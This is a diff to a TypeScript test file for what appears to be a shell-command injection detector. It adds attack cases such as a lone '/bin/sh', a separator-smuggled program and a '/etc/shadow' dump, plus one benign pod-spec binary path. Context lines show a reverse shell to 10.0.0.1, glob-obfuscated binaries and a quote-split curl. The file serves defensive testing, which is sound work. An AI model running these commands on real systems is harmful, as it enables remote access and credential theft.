@@ -49,6 +49,11 @@ const attacks: [string, string][] = [
   ["prefix command", "time sh -c whoami"],
   ["quoted prefix", "ti''me curl example.org"],
   ["absolute binary path", "/usr/bin/python3 -m http.server"],
+  // a lone absolute path is a command when it names a known program or follows a separator
+  ["lone system shell path", "/bin/sh"],
+  ["lone unknown program in a system directory", "/usr/sbin/ab"],
+  ["unknown program after a separator", "x; /usr/local/bin/payment"],
+  ["unknown program with arguments", "/usr/local/bin/payment --dump /etc/shadow"],
   ["globbed binary", "/???/??t /???/p??s??"],
   ["glob classes", "cat /etc/pa[s]swd"],
   ["reverse shell", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"],
@@ -98,6 +103,7 @@ const attacks: [string, string][] = [
 ];
 
 const benign: [string, string][] = [
+  ["an application binary in a pod spec command list", "/usr/local/bin/grpc_health_probe"],
   // JSONPath roots (shell-patterns.ts jsonPathRoot)
   ["JSONPath filter", "$[?(@.price < 10)].title"],
   ["JSONPath quoted name", "$['store'].book[0]"],
